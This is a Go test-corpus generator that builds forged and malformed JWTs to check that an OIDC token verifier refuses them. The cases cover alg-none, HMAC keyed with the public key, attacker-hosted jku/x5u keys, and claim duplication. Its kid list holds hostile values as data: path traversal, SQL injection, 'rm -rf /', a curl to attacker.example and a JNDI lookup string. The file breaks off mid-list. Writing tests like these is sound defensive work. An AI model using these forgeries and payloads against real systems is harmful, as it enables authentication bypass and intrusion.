package attack

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"hash"
	"math/big"
	"net/http"
	"strings"
	"time"

	"github.com/tokenwarden/tokenwarden/oidc"
)

// Case is one attack.
type Case struct {
	Name  string
	Token string
	// WantStatus is the middleware's answer: 400 (invalid_request) when
	// Token is not an RFC 6750 b64token, else 401 (invalid_token).
	WantStatus int
	// WantError is the oidc sentinel that the Verifier's error wraps.
	WantError error
	// UnknownKid marks a token naming a kid absent from the JWKS.
	UnknownKid bool
}

// b64Alphabet is the base64url alphabet in value order.
const b64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

// Cases returns the corpus for m. Every token is refused by a Verifier
// built as Material.Verifier builds it.
func Cases(m *Material) ([]Case, error) {
	if err := m.check(); err != nil {
		return nil, err
	}
	g := &gen{m: m, payload: m.Payload(nil), hdr: m.RS256Header()}
	g.valid = m.Sign(g.hdr, g.payload)
	g.parts = strings.Split(g.valid, ".")
	steps := []func() error{g.algNone, g.hmacWithPublicKey, g.embeddedKeys, g.kidInjection, g.crit,
		g.shapes, g.base64, g.whitespace, g.claims, g.numericDates, g.audience, g.tokenKinds,
		g.times, g.issuer, g.signatures}
	for _, step := range steps {
		if err := step(); err != nil {
			return nil, err
		}
	}
	seen := make(map[string]bool, len(g.cases))
	for _, c := range g.cases {
		if seen[c.Name] {
			return nil, fmt.Errorf("attack: duplicate case name %q", c.Name)
		}
		seen[c.Name] = true
	}
	return g.cases, nil
}

type gen struct {
	m       *Material
	payload string   // the valid payload JSON
	hdr     string   // the valid header JSON
	valid   string   // the valid token
	parts   []string // its three segments
	cases   []Case
}

// bad adds a token refused as invalid_token (401).
func (g *gen) bad(name, token string, want error) {
	g.cases = append(g.cases, Case{Name: name, Token: token, WantStatus: http.StatusUnauthorized, WantError: want})
}

// unknownKid adds a token naming a kid absent from the JWKS.
func (g *gen) unknownKid(name, token string) {
	g.cases = append(g.cases, Case{Name: name, Token: token, WantStatus: http.StatusUnauthorized,
		WantError: oidc.ErrUnknownKey, UnknownKid: true})
}

// request adds a credential that is not a b64token (400 invalid_request).
func (g *gen) request(name, token string, want error) {
	g.cases = append(g.cases, Case{Name: name, Token: token, WantStatus: http.StatusBadRequest, WantError: want})
}

// signed signs a payload with the real key under the valid header.
func (g *gen) signed(payload string) string { return g.m.Sign(g.hdr, payload) }

// with signs the valid payload with overrides.
func (g *gen) with(over map[string]any) string { return g.signed(g.m.Payload(over)) }

// inject adds a raw member (JSON text) at the start of the valid payload.
func (g *gen) inject(member string) string {
	return g.signed(strings.Replace(g.payload, "{", "{"+member+",", 1))
}

// replaceIn replaces old in the valid payload, which must contain it.
func (g *gen) replaceIn(old, repl string) (string, error) {
	if !strings.Contains(g.payload, old) {
		return "", fmt.Errorf("attack: payload lacks %q", old)
	}
	return g.signed(strings.Replace(g.payload, old, repl, 1)), nil
}

// caseVariants returns every upper/lower-case spelling of an ASCII word.
func caseVariants(w string) []string {
	out := []string{""}
	for _, r := range w {
		lo, up := strings.ToLower(string(r)), strings.ToUpper(string(r))
		var next []string
		for _, p := range out {
			next = append(next, p+lo)
			if up != lo {
				next = append(next, p+up)
			}
		}
		out = next
	}
	return out
}

func (g *gen) algNone() error {
	p := Enc([]byte(g.payload))
	for _, v := range caseVariants("none") {
		h := Enc([]byte(Header(v, g.m.KID, nil)))
		g.bad("alg "+v+", empty signature", h+"."+p+".", oidc.ErrMalformed)
		g.bad("alg "+v+", no signature segment", h+"."+p, oidc.ErrMalformed)
		g.bad("alg "+v+", real signature", h+"."+p+"."+g.parts[2], oidc.ErrAlgorithm)
	}
	g.bad("alg none without kid, empty signature", Enc([]byte(Header("none", "", nil)))+"."+p+".", oidc.ErrMalformed)
	g.bad("alg none without typ and kid, signature of the signing input",
		SignInput(g.m.Attacker, Enc([]byte(`{"alg":"none"}`))+"."+p), oidc.ErrAlgorithm)
	g.bad(`alg ""`, g.m.Sign(Header("", g.m.KID, nil), g.payload), oidc.ErrMalformed)
	for _, alg := range []string{"RS256 ", "rs256", "Rs256", "RS-256", "RSA", "ES256", "PS256", "EdDSA", "dir", "RSA-OAEP"} {
		g.bad(fmt.Sprintf("alg %q with a real RS256 signature", alg),
			g.m.Sign(Header(alg, g.m.KID, nil), g.payload), oidc.ErrAlgorithm)
	}
	g.bad("alg missing", g.m.Sign(Header("RS256", g.m.KID, map[string]any{"alg": nil}), g.payload), oidc.ErrMalformed)
	g.bad("alg not a string", g.m.Sign(`{"alg":["RS256"],"kid":`+jsonText(g.m.KID)+`}`, g.payload), oidc.ErrMalformed)
	g.bad("alg duplicated, none then RS256", g.m.Sign(`{"alg":"none","alg":"RS256","kid":`+jsonText(g.m.KID)+`}`, g.payload), oidc.ErrMalformed)
	g.bad("ALG instead of alg", g.m.Sign(`{"ALG":"RS256","kid":`+jsonText(g.m.KID)+`}`, g.payload), oidc.ErrMalformed)
	g.bad("alg and ALG", g.m.Sign(`{"ALG":"none","alg":"RS256","kid":`+jsonText(g.m.KID)+`}`, g.payload), oidc.ErrMalformed)
	return nil
}

// SignHS256 signs header.payload (JSON texts) with HMAC-SHA256 under secret,
// as an attacker who knows a public or shared value would.
func SignHS256(header, payload string, secret []byte) string {
	return hmacToken(sha256.New, header, payload, secret)
}

func hmacToken(h func() hash.Hash, header, payload string, secret []byte) string {
	input := Enc([]byte(header)) + "." + Enc([]byte(payload))
	mac := hmac.New(h, secret)
	mac.Write([]byte(input))
	return input + "." + Enc(mac.Sum(nil))
}

func (g *gen) hmacWithPublicKey() error {
	pub := &g.m.Key.PublicKey
	pkix, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		return fmt.Errorf("attack: marshal public key: %w", err)
	}
	pkcs1 := x509.MarshalPKCS1PublicKey(pub)
	secrets := []struct {
		name string
		b    []byte
	}{
		{"PEM PKIX", pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})},
		{"PEM PKCS1", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1})},
		{"PEM PKIX without final newline", []byte(strings.TrimSuffix(string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})), "\n"))},
		{"DER PKIX", pkix},
		{"DER PKCS1", pkcs1},
		{"JWK JSON", []byte(jsonText(g.m.PublicJWK()))},
		{"JWKS JSON", g.m.JWKS()},
		{"modulus bytes", pub.N.Bytes()},
		{"modulus base64url", []byte(Enc(pub.N.Bytes()))},
		{"empty secret", nil},
	}
	hashes := []struct {
		alg string
		h   func() hash.Hash
	}{{"HS256", sha256.New}, {"HS384", sha512.New384}, {"HS512", sha512.New}}
	for _, hs := range hashes {
		for _, s := range secrets {
			g.bad(hs.alg+" keyed with the "+s.name, hmacToken(hs.h, Header(hs.alg, g.m.KID, nil), g.payload, s.b), oidc.ErrAlgorithm)
		}
		g.bad(hs.alg+" without kid keyed with the PEM", hmacToken(hs.h, Header(hs.alg, "", nil), g.payload, secrets[0].b), oidc.ErrAlgorithm)
	}
	return nil
}

// selfSigned returns a DER certificate for the attacker's key.
func (g *gen) selfSigned() ([]byte, error) {
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "tokenwarden"},
		NotBefore: g.m.Now.Add(-time.Hour), NotAfter: g.m.Now.Add(24 * time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &g.m.Attacker.PublicKey, g.m.Attacker)
	if err != nil {
		return nil, fmt.Errorf("attack: self-signed certificate: %w", err)
	}
	return der, nil
}

func (g *gen) embeddedKeys() error {
	cert, err := g.selfSigned()
	if err != nil {
		return err
	}
	const evilKID = "attacker-1"
	atk := &g.m.Attacker.PublicKey
	embedded := []struct {
		name   string
		member string
		value  any
	}{
		{"jwk", "jwk", rsaJWK(atk, evilKID)},
		{"jwk without kid", "jwk", rsaJWK(atk, "")},
		{"jku", "jku", "https://attacker.example/jwks.json"},
		{"jku on the issuer's host", "jku", strings.TrimSuffix(g.m.Issuer, "/") + "/../../attacker/jwks.json"},
		{"x5u", "x5u", "https://attacker.example/cert.pem"},
		{"x5c", "x5c", []string{b64Std(cert)}},
	}
	for _, e := range embedded {
		extra := map[string]any{e.member: e.value}
		// The real kid, the attacker's signature: the JWKS key must be used.
		g.bad("embedded "+e.name+" with the issuer's kid, signed by the attacker",
			SignWith(g.m.Attacker, Header("RS256", g.m.KID, extra), g.payload), oidc.ErrBadSignature)
		// The attacker's kid: only the JWKS can name a key.
		g.unknownKid("embedded "+e.name+" with the attacker's kid, signed by the attacker",
			SignWith(g.m.Attacker, Header("RS256", evilKID, extra), g.payload))
		g.unknownKid("embedded "+e.name+" without kid, signed by the attacker",
			SignWith(g.m.Attacker, Header("RS256", "", extra), g.payload))
	}
	g.bad("embedded jwk of the issuer's own key, signed by the attacker",
		SignWith(g.m.Attacker, Header("RS256", g.m.KID, map[string]any{"jwk": g.m.PublicJWK()}), g.payload), oidc.ErrBadSignature)
	g.bad("x5t#S256 of the attacker's certificate",
		SignWith(g.m.Attacker, Header("RS256", g.m.KID, map[string]any{"x5t#S256": Enc(sha256Sum(cert))}), g.payload), oidc.ErrBadSignature)
	return nil
}

func sha256Sum(b []byte) []byte {
	s := sha256.Sum256(b)
	return s[:]
}

// b64Std is standard padded base64, as x5c requires.
func b64Std(b []byte) string {
	s := Enc(b)
	s = strings.NewReplacer("-", "+", "_", "/").Replace(s)
	for len(s)%4 != 0 {
		s += "="
	}
	return s
}

func (g *gen) kidInjection() error {
	kids := []string{
		"../../../../../../dev/null",
		"/dev/null",
		"../../../../etc/passwd",
		"..\\..\\..\\windows\\win.ini",
		"file:///dev/null",
		"/proc/self/environ",
		g.m.KID + "/../" + g.m.KID,
		"' OR '1'='1",
		"x' UNION SELECT 'AA==' --",
		g.m.KID + "'; DROP TABLE keys; --",
		"1; SELECT pg_sleep(10)",
		"$(id)",
		"`id`",
		"| whoami",
		"; rm -rf / ;",
		"&& curl https://attacker.example/",
		"${jndi:ldap://attacker.example/a}",
		"{{7*7}}",
		"%00",
		g.m.KID + "\x00",
		"\x00" + g.m.KID,
		g.m.KID + " ",
		strings.ToUpper(g.m.KID),
		"*",
		"https://attacker.example/key.pem",
		strings.Repeat("k", 512),
	}
	for i, kid := range kids {
		g.unknownKid(fmt.Sprintf("kid injection %d %q", i, truncate(kid, 40)), g.m.Sign(Header("RS256", kid, nil), g.payload))
	}
	g.bad("kid of 513 bytes", g.m.Sign(Header("RS256", strings.Repeat("k", 513), nil), g.payload), oidc.ErrMalformed)
	g.bad("kid of 6000 bytes", g.m.Sign(Header("RS256", strings.Repeat("k", 6000), nil), g.payload), oidc.ErrMalformed)
	g.bad("kid a number", g.m.Sign(`{"alg":"RS256","kid":1}`, g.payload), oidc.ErrMalformed)
	g.bad("kid an object", g.m.Sign(`{"alg":"RS256","kid":{"$ne":null}}`, g.payload), oidc.ErrMalformed)
	g.bad("kid an array", g.m.Sign(`{"alg":"RS256","kid":[`+jsonText(g.m.KID)+`]}`, g.payload), oidc.ErrMalformed)
	g.bad("kid duplicated", g.m.Sign(`{"alg":"RS256","kid":"x","kid":`+jsonText(g.m.KID)+`}`, g.payload), oidc.ErrMalformed)
	return nil
}

func truncate(s string, n int) string {
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}

func (g *gen) crit() error {
	kid := jsonText(g.m.KID)
	for _, h := range []struct{ name, header string }{
		{"crit empty", `{"alg":"RS256","kid":` + kid + `,"crit":[]}`},
		{"crit null", `{"alg":"RS256","kid":` + kid + `,"crit":null}`},
		{"crit a string", `{"alg":"RS256","kid":` + kid + `,"crit":"exp"}`},
		{"crit exp", `{"alg":"RS256","kid":` + kid + `,"crit":["exp"],"exp":1}`},
		{"crit kid", `{"alg":"RS256","kid":` + kid + `,"crit":["kid"]}`},
		{"crit unknown extension", `{"alg":"RS256","kid":` + kid + `,"crit":["urn:attacker:x"],"urn:attacker:x":true}`},
		{"crit names a missing member", `{"alg":"RS256","kid":` + kid + `,"crit":["http://example.invalid/UNDEFINED"]}`},
		{"crit b64 false", `{"alg":"RS256","kid":` + kid + `,"b64":false,"crit":["b64"]}`},
		{"crit duplicated", `{"alg":"RS256","kid":` + kid + `,"crit":[],"crit":["b64"]}`},
		{"b64 false without crit", `{"alg":"RS256","kid":` + kid + `,"b64":false}`},
		{"zip DEF", `{"alg":"RS256","kid":` + kid + `,"zip":"DEF"}`},
	} {
		g.bad(h.name, g.m.Sign(h.header, g.payload), oidc.ErrMalformed)
	}
	return nil
}

func (g *gen) shapes() error {
	kid := jsonText(g.m.KID)
	nested := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
	nestedObj := func(n int) string { return strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n) }
	g.bad("header nested 200 arrays", g.m.Sign(`{"alg":"RS256","kid":`+kid+`,"x":`+nested(200)+`}`, g.payload), oidc.ErrMalformed)
	g.bad("header nested 1000 objects", g.m.Sign(`{"alg":"RS256","kid":`+kid+`,"x":`+nestedObj(1000)+`}`, g.payload), oidc.ErrMalformed)
	g.bad("claim nested 200 arrays", g.inject(`"deep":`+nested(200)), oidc.ErrMalformed)
	g.bad("claim nested 1000 objects", g.inject(`"deep":`+nestedObj(1000)), oidc.ErrMalformed)
	g.bad("header over 8 KiB", g.m.Sign(Header("RS256", g.m.KID, map[string]any{"x": strings.Repeat("a", 6200)}), g.payload), oidc.ErrMalformed)
	g.bad("token over 16 KiB", g.with(map[string]any{"pad": strings.Repeat("a", 17<<10)}), oidc.ErrMalformed)
	g.bad("token of 64 KiB", g.with(map[string]any{"pad": strings.Repeat("a", 48<<10)}), oidc.ErrMalformed)
	g.bad("header not an object", g.m.Sign(`["RS256"]`, g.payload), oidc.ErrMalformed)
	g.bad("header empty", "."+g.parts[1]+"."+g.parts[2], oidc.ErrMalformed)
	g.bad("header not JSON", Enc([]byte("alg=RS256"))+"."+g.parts[1]+"."+g.parts[2], oidc.ErrMalformed)
	g.bad("header with trailing garbage", g.m.Sign(g.hdr+"x", g.payload), oidc.ErrMalformed)
	g.bad("header invalid UTF-8", g.m.Sign(`{"alg":"RS256","kid":`+kid+`,"x":"`+"\xff"+`"}`, g.payload), oidc.ErrMalformed)
	g.bad("header typ twice", g.m.Sign(`{"alg":"RS256","typ":"JWT","typ":"logout+jwt","kid":`+kid+`}`, g.payload), oidc.ErrMalformed)
	g.bad("header with a UTF-8 byte order mark", g.m.Sign("\ufeff"+g.hdr, g.payload), oidc.ErrMalformed)
	g.bad("payload with a UTF-8 byte order mark", g.signed("\ufeff"+g.payload), oidc.ErrMalformed)
	g.bad("payload not an object", g.signed(`["iss"]`), oidc.ErrMalformed)
	g.bad("payload empty", g.signed(""), oidc.ErrMalformed)
	g.bad("payload with trailing garbage", g.signed(g.payload+"x"), oidc.ErrMalformed)
	g.bad("payload invalid UTF-8", g.inject(`"x":"`+"\xc3\x28"+`"`), oidc.ErrMalformed)
	g.bad("payload unpaired surrogate", g.inject(`"x":"\ud800"`), oidc.ErrMalformed)
	for _, n := range []int{1, 2, 3, 4, 10, 10000} {
		g.bad(fmt.Sprintf("%d dots", n), strings.Repeat(".", n), oidc.ErrMalformed)
	}
	g.bad("empty token segments around two dots", "a..b", oidc.ErrMalformed)
	g.bad("two segments", g.parts[0]+"."+g.parts[1], oidc.ErrMalformed)
	g.bad("one segment", g.parts[1], oidc.ErrMalformed)
	g.bad("trailing dot", g.valid+".", oidc.ErrMalformed)
	g.bad("leading dot", "."+g.valid, oidc.ErrMalformed)
	g.bad("four segments", g.valid+"."+g.parts[2], oidc.ErrMalformed)
	g.bad("five segments (JWE shape)", g.parts[0]+"..."+g.parts[1]+"."+g.parts[2], oidc.ErrMalformed)
	g.bad("valid token twice joined by a dot", g.valid+"."+g.valid, oidc.ErrMalformed)
	g.request("JSON serialization", `{"protected":"`+g.parts[0]+`","payload":"`+g.parts[1]+`","signature":"`+g.parts[2]+`"}`, oidc.ErrMalformed)
	// NUL bytes are outside b64token: the request is malformed.
	for _, at := range g.positions() {
		g.request(fmt.Sprintf("NUL at %s", at.name), insert(g.valid, at.i, "\x00"), g.wantAt(at.i, "\x00"))
	}
	g.request("NUL only", "\x00", oidc.ErrMalformed)
	g.request("NUL inside a segment's base64 and a real signature", g.m.Sign(g.hdr, g.payload)+"\x00\x00", oidc.ErrMalformed)
	return nil
}

type position struct {
	name string
	i    int
}

// positions are interior offsets of the valid token: inside each segment
// and on each side of both dots.
func (g *gen) positions() []position {
	d1 := len(g.parts[0])
	d2 := d1 + 1 + len(g.parts[1])
	return []position{
		{"header start+1", 1}, {"header middle", d1 / 2}, {"before the first dot", d1}, {"after the first dot", d1 + 1},
		{"payload middle", d1 + 1 + len(g.parts[1])/2}, {"before the second dot", d2}, {"after the second dot", d2 + 1},
		{"signature middle", d2 + 1 + len(g.parts[2])/2}, {"before the last character", len(g.valid) - 1},
	}
}

func insert(s string, i int, x string) string { return s[:i] + x + s[i:] }

// wantAt is the error for inserting x at offset i of the valid token. A
// segment whose length is 1 modulo 4 cannot be base64url at all, which the
// verifier sees before any crypto. Otherwise a payload change alters the
// signing input, so the signature fails before the payload is decoded;
// header and signature changes fail to decode.
func (g *gen) wantAt(i int, x string) error {
	d1 := len(g.parts[0])
	d2 := d1 + 1 + len(g.parts[1])
	if i > d1 && i <= d2 && (len(g.parts[1])+len(x))%4 != 1 {
		return oidc.ErrBadSignature
	}
	return oidc.ErrMalformed
}

func (g *gen) whitespace() error {
	for _, ws := range []struct{ name, s string }{
		{"space", " "}, {"tab", "\t"}, {"LF", "\n"}, {"CRLF", "\r\n"}, {"CR", "\r"}, {"vertical tab", "\v"},
		{"form feed", "\f"}, {"NBSP", "\u00a0"}, {"zero-width space", "\u200b"},
	} {
		for _, at := range g.positions() {
			g.request(ws.name+" at "+at.name, insert(g.valid, at.i, ws.s), g.wantAt(at.i, ws.s))
		}
	}
	return nil
}

// respell returns the spellings of seg that differ only in the unused low
// bits of its last character.
func respell(seg string) []string {
	var unused int
	switch len(seg) % 4 {
	case 2:
		unused = 4
	case 3:
		unused = 2
	default:
		return nil
	}
	last := strings.IndexByte(b64Alphabet, seg[len(seg)-1])
	var out []string
	for extra := 1; extra < 1<<unused; extra++ {
		out = append(out, seg[:len(seg)-1]+string(b64Alphabet[last|extra]))
	}
	return out
}

func (g *gen) base64() error {
	h, p, s := g.parts[0], g.parts[1], g.parts[2]
	toStd := strings.NewReplacer("-", "+", "_", "/").Replace
	// Padding: "=" is allowed by b64token only at the very end.
	g.bad("signature padded with =", g.valid+"=", oidc.ErrMalformed)
	g.bad("signature padded with ==", g.valid+"==", oidc.ErrMalformed)
	g.request("header padded", h+"=."+p+"."+s, oidc.ErrMalformed)
	g.request("payload padded", h+"."+p+"==."+s, g.wantAt(len(h)+1, "=="))
	g.request("standard padded base64 signature", h+"."+p+"."+b64Std(mustDecode(s))+".", oidc.ErrMalformed)
	// Standard alphabet: a header member whose encoding has "-" or "_"
	// (bytes 0x3e/0x3f land on them at one of the three alignments).
	var tok string
	for _, x := range []string{"???>>>", "a???>>>", "aa???>>>"} {
		t := g.m.Sign(Header("RS256", g.m.KID, map[string]any{"x": x}), g.payload)
		if hs, _, _ := strings.Cut(t, "."); toStd(hs) != hs {
			tok = t
			break
		}
	}
	if tok == "" {
		return fmt.Errorf("attack: no header encodes to the url-safe characters")
	}
	g.bad("standard base64 alphabet", toStd(tok), oidc.ErrMalformed)
	hs, rest, _ := strings.Cut(tok, ".")
	g.bad("standard base64 alphabet in the header only", toStd(hs)+"."+rest, oidc.ErrMalformed)
	// Unused trailing bits. An RS256 signature (256 bytes) always leaves
	// some; the payload is padded with a member until it leaves some too.
	sigAlts := respell(s)
	if len(sigAlts) == 0 {
		return fmt.Errorf("attack: signature has no unused bits")
	}
	for i, alt := range sigAlts {
		g.bad(fmt.Sprintf("signature trailing bits %d", i), h+"."+p+"."+alt, oidc.ErrMalformed)
	}
	for i, alt := range respell(h) {
		g.bad(fmt.Sprintf("header trailing bits %d", i), alt+"."+p+"."+s, oidc.ErrMalformed)
	}
	var pAlts []string
	for pad := ""; len(pAlts) == 0 && len(pad) < 3; pad += "x" {
		p = Enc([]byte(g.m.Payload(map[string]any{"pad": pad})))
		pAlts = respell(p)
	}
	s = strings.Split(SignInput(g.m.Key, h+"."+p), ".")[2]
	for i, alt := range pAlts {
		// The signature covers the spelling, so it no longer verifies...
		g.bad(fmt.Sprintf("payload trailing bits %d", i), h+"."+alt+"."+s, oidc.ErrBadSignature)
		// ...and re-signed over the respelling, the payload is still refused.
		g.bad(fmt.Sprintf("payload trailing bits %d re-signed", i), SignInput(g.m.Key, h+"."+alt), oidc.ErrMalformed)
	}
	return nil
}

// mustDecode decodes a segment produced by Enc (nil for anything else).
func mustDecode(s string) []byte {
	b, _ := base64.RawURLEncoding.DecodeString(s)
	return b
}

func (g *gen) claims() error {
	for _, c := range []struct{ name, member string }{
		{"exp twice", `"exp":` + fmt.Sprint(g.m.Now.Unix()+86400*365)},
		{"exp and EXP", `"EXP":` + fmt.Sprint(g.m.Now.Unix()+86400*365)},
		{"iss twice", `"iss":"https://attacker.example/realms/x"`},
		{"iss and Iss", `"Iss":"https://attacker.example/realms/x"`},
		{"aud twice", `"aud":"attacker"`},
		{"aud and AUD", `"AUD":"attacker"`},
		{"sub twice", `"sub":"admin"`},
		{"typ twice", `"typ":"Refresh"`},
		{"escaped exp duplicate", `"\u0065xp":9999999999`},
		{"long-s sub variant", `"\u017fub":"admin"`},
		{"kelvin-sign variant of jti", `"` + "\u212a" + `":"x","jti":"replayed"`},
		{"realm_access twice", `"realm_access":{"roles":["admin"]}`},
		{"typ and Typ", `"Typ":"Refresh"`},
	} {
		g.bad("claims: "+c.name, g.inject(c.member), oidc.ErrMalformed)
	}
	dupRoles, err := g.replaceIn(`"realm_access":{"roles":[`, `"realm_access":{"roles":["admin"],"roles":[`)
	if err != nil {
		return err
	}
	g.bad("claims: roles twice", dupRoles, oidc.ErrMalformed)
	dupClient, err := g.replaceIn(`"resource_access":{`, `"resource_access":{`+jsonText(g.m.Audience)+`:{"roles":["admin"]},`)
	if err != nil {
		return err
	}
	g.bad("claims: client twice in resource_access", dupClient, oidc.ErrMalformed)
	onlyUpper, err := g.replaceIn(`"iss":`, `"ISS":`)
	if err != nil {
		return err
	}
	g.bad("claims: ISS instead of iss", onlyUpper, oidc.ErrWrongIssuer)
	onlyExp, err := g.replaceIn(`"exp":`, `"Exp":`)
	if err != nil {
		return err
	}
	g.bad("claims: Exp instead of exp", onlyExp, oidc.ErrMalformed)
	return nil
}

func (g *gen) numericDates() error {
	now := g.m.Now.Unix()
	exp := fmt.Sprint(now + 300)
	for _, d := range []struct{ name, claim, value string }{
		{"exp float", "exp", exp + ".5"},
		{"exp with .0", "exp", exp + ".0"},
		{"exp exponent", "exp", exp[:len(exp)-2] + "E2"},
		{"exp 1e300", "exp", "1e300"},
		{"exp huge integer", "exp", "100000000000000000000"},
		{"exp 2^63", "exp", "9223372036854775808"},
		{"exp max int64", "exp", "9223372036854775807"},
		{"exp 1e11 (year 5138 and later)", "exp", "100000000000"},
		{"exp negative", "exp", "-1"},
		{"exp minus zero", "exp", "-0"},
		{"exp zero", "exp", "0"},
		{"exp string", "exp", `"` + exp + `"`},
		{"exp bool", "exp", "true"},
		{"exp null", "exp", "null"},
		{"exp array", "exp", "[" + exp + "]"},
		{"exp leading zero", "exp", "0" + exp},
		{"exp plus sign", "exp", "+" + exp},
		{"nbf 1e300", "nbf", "1e300"},
		{"nbf string", "nbf", `"0"`},
		{"nbf float", "nbf", "1.5"},
		{"nbf negative", "nbf", "-1"},
		{"iat string", "iat", `"` + fmt.Sprint(now) + `"`},
		{"iat float", "iat", fmt.Sprint(now) + ".25"},
		{"iat negative", "iat", "-1000"},
		{"iat 1e300", "iat", "1e300"},
		{"auth_time string", "auth_time", `"now"`},
	} {
		p := g.m.ClaimsMap(map[string]any{d.claim: nil})
		raw := strings.Replace(jsonText(p), "{", `{"`+d.claim+`":`+d.value+",", 1)
		g.bad("NumericDate: "+d.name, g.signed(raw), oidc.ErrMalformed)
	}
	g.bad("NumericDate: exp missing", g.with(map[string]any{"exp": nil}), oidc.ErrMalformed)
	return nil
}

func (g *gen) audience() error {
	a := g.m.Audience
	for _, c := range []struct {
		name string
		aud  any
		want error
	}{
		{"aud missing, azp is ours", nil, oidc.ErrWrongAudience},
		{"aud account only", "account", oidc.ErrWrongAudience},
		{"aud array without ours", []string{"account", a + "2"}, oidc.ErrWrongAudience},
		{"aud empty array", []string{}, oidc.ErrWrongAudience},
		{"aud empty string", "", oidc.ErrWrongAudience},
		{"aud with trailing space", a + " ", oidc.ErrWrongAudience},
		{"aud upper case", strings.ToUpper(a), oidc.ErrWrongAudience},
		{"aud prefix", a[:len(a)-1], oidc.ErrWrongAudience},
		{"aud list in one string", "account," + a, oidc.ErrWrongAudience},
		{"aud space-separated in one string", "account " + a, oidc.ErrWrongAudience},
		{"aud nested array", [][]string{{a}}, oidc.ErrMalformed},
		{"aud object", map[string]any{a: true}, oidc.ErrMalformed},
		{"aud number", 5, oidc.ErrMalformed},
		{"aud array of numbers", []int{5}, oidc.ErrMalformed},
		{"aud array with null", []any{nil, "account"}, oidc.ErrMalformed},
		{"aud bool", true, oidc.ErrMalformed},
	} {
		over := map[string]any{"aud": c.aud, "azp": a}
		if c.aud == nil {
			over = map[string]any{"aud": nil, "azp": a}
		}
		g.bad(c.name, g.with(over), c.want)
	}
	return nil
}

func (g *gen) tokenKinds() error {
	for _, typ := range []string{"ID", "Refresh", "Offline", "Logout", "Serialized-ID", "bearer", "BEARER", "Bearer ", "dpop", "at+jwt", "JWT", ""} {
		g.bad(fmt.Sprintf("payload typ %q", typ), g.with(map[string]any{"typ": typ}), oidc.ErrWrongType)
	}
	g.bad("payload typ missing", g.with(map[string]any{"typ": nil}), oidc.ErrWrongType)
	g.bad("payload typ not a string", g.with(map[string]any{"typ": []string{"Bearer"}}), oidc.ErrMalformed)
	for _, typ := range []string{"logout+jwt", "application/logout+jwt", "id_token+jwt", "dpop+jwt", "secevent+jwt", "JOSE", "jwt+xml", "at+jwt+x"} {
		g.bad(fmt.Sprintf("header typ %q", typ), g.m.Sign(Header("RS256", g.m.KID, map[string]any{"typ": typ}), g.payload), oidc.ErrWrongType)
	}
	ev := map[string]any{BackchannelLogoutEvent: map[string]any{}}
	g.bad("logout token", g.m.Sign(g.m.LogoutHeader(), g.m.LogoutPayload(g.m.Audience, nil)), oidc.ErrWrongType)
	g.bad("logout token under a JWT header", g.m.Sign(g.hdr, g.m.LogoutPayload(g.m.Audience, nil)), oidc.ErrWrongType)
	g.bad("logout payload under a JWT header", g.with(map[string]any{"typ": "Logout", "events": ev}), oidc.ErrWrongType)
	g.bad("events claim in a Bearer token", g.with(map[string]any{"events": ev}), oidc.ErrWrongType)
	// A Keycloak admin message (k_push_not_before) carries no iss.
	g.bad("Keycloak admin message", g.signed(jsonText(map[string]any{"id": "6f1c0f5e-5a4b-4e8e-9d2a-7c3b1a0e9f11",
		"expiration": g.m.Now.Unix() + 30, "resource": []string{g.m.Audience}, "action": "PUSH_NOT_BEFORE",
		"notBefore": g.m.Now.Unix()})), oidc.ErrWrongIssuer)
	g.bad("ID token with nonce and at_hash", g.with(map[string]any{"typ": "ID", "nonce": "n-0S6", "at_hash": "x"}), oidc.ErrWrongType)
	return nil
}

func (g *gen) times() error {
	now := g.m.Now.Unix()
	g.bad("expired beyond the leeway", g.with(map[string]any{"exp": now - 31}), oidc.ErrExpired)
	g.bad("expired a day ago", g.with(map[string]any{"exp": now - 86400, "iat": now - 86700}), oidc.ErrExpired)
	g.bad("expired exactly at the leeway", g.with(map[string]any{"exp": now - 30}), oidc.ErrExpired)
	g.bad("exp 1 (1970)", g.with(map[string]any{"exp": 1, "iat": nil}), oidc.ErrMalformed)
	g.bad("nbf in the future", g.with(map[string]any{"nbf": now + 31}), oidc.ErrNotYetValid)
	g.bad("nbf a year ahead", g.with(map[string]any{"nbf": now + 86400*365, "exp": now + 86400*366}), oidc.ErrNotYetValid)
	g.bad("iat in the future", g.with(map[string]any{"iat": now + 31}), oidc.ErrNotYetValid)
	g.bad("iat missing", g.with(map[string]any{"iat": nil}), oidc.ErrMalformed)
	return nil
}

func (g *gen) issuer() error {
	iss := g.m.Issuer
	scheme, rest, _ := strings.Cut(iss, "://")
	host, path, _ := strings.Cut(rest, "/")
	otherRealm := iss[:strings.LastIndexByte(iss, '/')+1] + "other"
	for _, c := range []struct {
		name string
		iss  any
		want error
	}{
		{"iss with trailing slash", iss + "/", oidc.ErrWrongIssuer},
		{"iss upper case", strings.ToUpper(iss), oidc.ErrWrongIssuer},
		{"iss host upper case", scheme + "://" + strings.ToUpper(host) + "/" + path, oidc.ErrWrongIssuer},
		{"iss scheme upper case", strings.ToUpper(scheme) + "://" + rest, oidc.ErrWrongIssuer},
		{"iss realm upper case", iss[:strings.LastIndexByte(iss, '/')+1] + strings.ToUpper(iss[strings.LastIndexByte(iss, '/')+1:]), oidc.ErrWrongIssuer},
		{"iss over http", "http://" + rest, oidc.ErrWrongIssuer},
		{"iss with default port", scheme + "://" + host + ":443/" + path, oidc.ErrWrongIssuer},
		{"iss with a longer realm", iss + "2", oidc.ErrWrongIssuer},
		{"iss prefix", iss[:len(iss)-1], oidc.ErrWrongIssuer},
		{"iss of another realm", otherRealm, oidc.ErrWrongIssuer},
